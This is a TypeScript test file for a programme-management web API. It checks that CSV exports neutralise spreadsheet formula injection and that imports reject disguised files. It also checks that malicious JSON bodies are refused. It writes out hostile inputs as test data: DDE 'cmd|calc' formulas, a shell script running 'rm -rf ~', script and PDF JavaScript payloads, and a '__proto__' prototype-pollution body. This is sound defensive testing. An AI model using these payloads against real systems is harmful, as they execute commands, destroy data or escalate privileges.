import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Cast, openCast } from '../http/cast.ts'
import { type NamedOperation, type OpenApiDocument, operationsOf } from '../http/openapi-reading.ts'
import { CONTACT_POINT_ID, newId, PARTNER_ID } from '../http/programme.ts'

let cast: Cast
let operations: readonly NamedOperation[]
beforeAll(async () => {
  cast = await openCast()
  const answer = await cast.people.app.request('/api/v1/openapi.json')
  operations = operationsOf((await answer.json()) as OpenApiDocument)
})
afterAll(() => cast.close())

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '=HYPERLINK("https://example.org?x="&A1,"ok")',
] as const

test('a formula that somebody entered is a text in every file that is exported', async () => {
  const admin = cast.as('administrator', 'session')
  const operator = cast.as('operator', 'session')
  const place = { territoryId: 'BI', unit: 'EUR', programmeId: 'FRANOI-2' }
  for (const [index, name] of FORMULAS.entries()) {
    const answers = [
      await admin.send('POST', '/api/v1/contact-points', { ...place, id: `CP-${index}`, name }),
      await operator.send('POST', '/api/v1/partners', {
        ...{ id: `P-${index}`, name, territoryId: 'BI', kind: 'shop', categories: [name] },
        unit: 'EUR',
      }),
      await operator.send('PUT', `/api/v1/partners/${PARTNER_ID}/outlets/O-${index}`, {
        ...{ name, town: name, openingHours: name, status: 'open' },
      }),
      await cast.as('treasurer').send('POST', '/api/v1/funding', {
        ...{ id: newId(), programmeId: 'FRANOI-2', kind: 'grant', funder: name, amount: '900' },
        ...{ receivedOn: '2026-01-31', reference: name },
      }),
      await operator.send('POST', '/api/v1/beneficiaries', {
        ...{ requestId: newId(), contactPointId: CONTACT_POINT_ID, householdSize: 1 },
        ...{ language: 'it', personal: { givenName: name, familyName: name } },
      }),
    ]
    for (const { status, text } of answers) expect([201, 200, 400], text).toContain(status)
  }
  const files = operations.filter(({ path }) => path.endsWith('.csv') && !path.includes('{'))
  expect(files.length).toBeGreaterThan(8)
  let formulas = 0
  for (const { path, security = [] } of files) {
    const roles = new Set(security.flatMap((way) => Object.values(way).flat()))
    for (const caller of cast.near.filter(({ role }) => roles.has(role))) {
      const personal = path.includes('beneficiaries') && caller.role === 'operator'
      const { status, text } = await caller.send('GET', `${path}${personal ? '?personal=yes' : ''}`)
      expect(status, `${path} ${text}`).toBe(200)
      for (const cell of cellsOf(text)) {
        if (!/^-?[0-9]+(\.[0-9]+)?$/.test(cell)) expect(cell, path).not.toMatch(/^[\s]*[=+\-@]/)
        if (cell.includes('cmd|')) formulas++
      }
    }
  }
  expect(formulas).toBeGreaterThan(20)
})

test.each([
  ['a spreadsheet', 'PK\u0003\u0004\u0014\u0000\u0006\u0000[Content_Types].xml'],
  ['a page', '<!doctype html><script>alert(1)</script>'],
  ['a picture', '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR'],
  ['a program', '#!/bin/sh\nrm -rf ~\n'],
  ['a PDF', '%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >>'],
])('%s that is called a file of people enters nobody', async (_, csv) => {
  const body = { id: newId(), csv }
  const operator = cast.as('operator', 'session')
  const { status, body: said } = await operator.send('POST', '/api/v1/beneficiaries/import', body)
  if (status === 200) {
    expect(said.entered).toEqual([])
    expect(said.problems.length).toBeGreaterThan(0)
  } else {
    expect(status).toBe(400)
  }
})

describe('a body that is meant to hurt', () => {
  const bodies = (): Readonly<Record<string, string>> => ({
    deepArrays: '['.repeat(20_000) + ']'.repeat(20_000),
    deepObjects: `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    deepInside: `{"id":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
    unclosed: '{"id":['.repeat(20_000),
    large: JSON.stringify({ id: 'x'.repeat(1_100_000) }),
    manyNames: `{${Array.from({ length: 5_000 }, (_, index) => `"n${index}":1`).join(',')}}`,
    longNumber: `{"amount":${'9'.repeat(20_000)}}`,
    prototype: '{"__proto__":{"role":"administrator"},"constructor":{"prototype":{}}}',
    twice: '{"id":"a","id":"b"}',
  })

  test('is refused by every address that takes one, and by none with a fault of ours', async () => {
    const key = await cast.people.services.access.createKey({ role: 'administrator' })
    const operatorKey = await cast.people.services.access.createKey({ role: 'operator' })
    const taking = operations.filter(({ requestBody }) => requestBody !== undefined)
    expect(taking.length).toBeGreaterThan(50)
    for (const { method, path, security = [] } of taking) {
      const isAdmins = (security[0]?.apiKey ?? []).includes('administrator')
      const at = path.replace(/\{\w+\}/g, () => newId())
      for (const [name, body] of Object.entries(bodies())) {
        const headers = {
          authorization: `Bearer ${isAdmins ? key : operatorKey}`,
          ...{ 'content-type': 'application/json', origin: 'http://localhost:3000' },
        }
        const answer = await cast.people.app.request(at, { method, headers, body })
        const seen = `${method} ${path} ${name}: ${answer.status}`
        expect([400, 401, 403, 404, 413, 422], seen).toContain(answer.status)
        expect((await answer.text()).length, seen).toBeLessThan(20_000)
      }
    }
    expect(({} as Record<string, unknown>).role).toBeUndefined()
  })
})

/** The cells of a CSV file, as a spreadsheet reads them. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}
